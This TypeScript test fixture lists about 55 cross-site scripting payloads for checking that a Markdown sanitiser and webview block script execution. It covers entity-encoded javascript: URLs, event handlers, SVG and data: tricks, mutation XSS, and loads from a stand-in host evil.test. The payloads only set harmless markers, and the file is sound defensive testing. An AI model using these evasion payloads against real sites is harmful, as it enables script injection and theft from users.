/**
 * Script-injection payloads (OWASP filter-evasion cheat sheet, mutation XSS, Markdown-specific ones). Each tries
 * to set `window.__pwned`, post a message, change the title or fetch a URL; the unit tier checks the sanitised
 * markup, the UI tier renders them in the real webview and checks that nothing ran.
 */
export interface XssCase {
  readonly name: string;
  readonly payload: string;
  /** The payload leaves a content-dropping element open, so the sanitiser rightly drops the rest of the document. */
  readonly swallowsRest?: boolean;
}

export const XSS_CORPUS: readonly XssCase[] = [
  { name: 'script element', payload: '<script>window.__pwned = 1</script>' },
  { name: 'script with src', payload: '<SCRIPT SRC=https://evil.test/xss.js></SCRIPT>' },
  { name: 'img onerror', payload: '<img src=x onerror="window.top.__pwned = 1">' },
  { name: 'img javascript: src', payload: `<IMG SRC="javascript:window.__pwned=1;">` },
  { name: 'mixed-case javascript:', payload: '<IMG SRC=JaVaScRiPt:window.__pwned=1>' },
  { name: 'decimal-entity javascript:', payload: '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>' },
  { name: 'hex-entity javascript: without semicolons', payload: '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>' },
  { name: 'tab inside javascript:', payload: '<a href="jav&#x09;ascript:document.title=\'pwned\'">tab</a>' },
  { name: 'newline inside javascript:', payload: '<a href="jav&#x0A;ascript:document.title=\'pwned\'">nl</a>' },
  { name: 'entity-encoded javascript: link', payload: '<a href="&#106;avascript:window.__pwned=1">entity</a>' },
  { name: 'leading-space javascript: link', payload: '<a href=" javascript:window.__pwned=1">space</a>' },
  { name: 'markdown javascript: link', payload: '[md link](javascript:window.__pwned=1)' },
  { name: 'markdown upper-case javascript: link', payload: '[md upper](JAVASCRIPT:window.__pwned=1)' },
  { name: 'markdown vbscript: link', payload: '[vb](vbscript:msgbox(1))' },
  { name: 'markdown data:text/html link', payload: '[data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucG9zdE1lc3NhZ2UoJ3B3bmVkJywnKicpPC9zY3JpcHQ+)' },
  { name: 'markdown svg data: image', payload: '![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)' },
  { name: 'raw data:text/html image', payload: '<img src="data:text/html,<script>window.__pwned=1</script>">' },
  { name: 'raw svg data: image', payload: '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">' },
  { name: 'svg onload', payload: '<svg onload="window.__pwned=1"></svg>' },
  { name: 'svg with script', payload: '<svg><script>window.__pwned = 1</script></svg>' },
  { name: 'svg javascript: xlink', payload: '<svg><a xlink:href="javascript:window.__pwned=1"><text x="0" y="20">svg link</text></a></svg>' },
  { name: 'iframe', payload: '<iframe src="https://evil.test/"></iframe>' },
  { name: 'iframe srcdoc', payload: '<iframe srcdoc="<script>parent.postMessage(\'pwned\', \'*\')</script>"></iframe>' },
  { name: 'object', payload: '<object data="https://evil.test/x.swf"></object>' },
  { name: 'embed', payload: '<embed src="https://evil.test/x.swf">' },
  { name: 'overlay by style attribute', payload: '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">overlay</div>' },
  { name: 'CSS expression', payload: '<div style="width: expression(window.__pwned=1)">expr</div>' },
  { name: 'CSS javascript: url', payload: '<div style="background:url(javascript:window.__pwned=1)">css url</div>' },
  { name: 'style element', payload: '<style>body { display: none } * { background: url(https://evil.test/beacon) }</style>' },
  { name: 'stylesheet link', payload: '<link rel="stylesheet" href="https://evil.test/x.css">' },
  { name: 'meta refresh', payload: '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=1">' },
  { name: 'base href', payload: '<base href="https://evil.test/">' },
  { name: 'form with formaction', payload: '<form action="https://evil.test/"><button formaction="javascript:window.__pwned=1">go</button></form>' },
  { name: 'input autofocus onfocus', payload: '<input autofocus onfocus="window.__pwned=1">' },
  { name: 'details ontoggle', payload: '<details open ontoggle="window.__pwned=1"><summary>t</summary>x</details>' },
  { name: 'onclick on a safe link', payload: '<a href="https://ok.test/" onclick="window.__pwned=1">ok link</a>' },
  { name: 'custom element with handler', payload: '<x onclick="window.__pwned=1">click me</x>' },
  { name: 'body onload', payload: '<BODY ONLOAD="window.__pwned=1">' },
  { name: 'video source onerror', payload: '<video><source onerror="window.__pwned=1"></video>' },
  { name: 'audio onerror', payload: '<audio src=x onerror="window.__pwned=1"></audio>' },
  { name: 'template with script', payload: '<template><script>window.__pwned=1</script></template>' },
  { name: 'malformed quotes', payload: '<img """><script>window.__pwned=1</script>">' },
  { name: 'double open bracket', payload: '<<script>window.__pwned=1;//<</script>' },
  { name: 'split script tag', payload: '<scr<script>ipt>window.__pwned=1</script>' },
  { name: 'unclosed img with handler', payload: '<img src=x onerror=window.__pwned=1//' },
  { name: 'unclosed javascript: anchor', payload: '<a href="javascript:window.__pwned=1"' },
  { name: 'backtick attribute', payload: '<IMG SRC=`javascript:window.__pwned=1`>' },
  { name: 'eval from attributes', payload: '<img src=x:alert(alt) onerror=eval(src) alt=xss>' },
  { name: 'srcset', payload: '<img srcset="javascript:window.__pwned=1">' },
  { name: 'protocol-relative link', payload: '<a href="//evil.test/x">proto</a>' },
  { name: 'mXSS via math and style', payload: '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=1">', swallowsRest: true },
  { name: 'mXSS via noscript', payload: '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">', swallowsRest: true },
  { name: 'svg style breakout', payload: '<svg><style>{font-family:\'<iframe/onload=window.__pwned=1>\'}</style></svg>' },
  { name: 'html comment breakout', payload: '<!--><img src=x onerror=window.__pwned=1>-->' },
  { name: 'forged trusted placeholder', payload: '<berth-slot data-k="x-0"><img src=x onerror=window.__pwned=1></berth-slot>' },
];
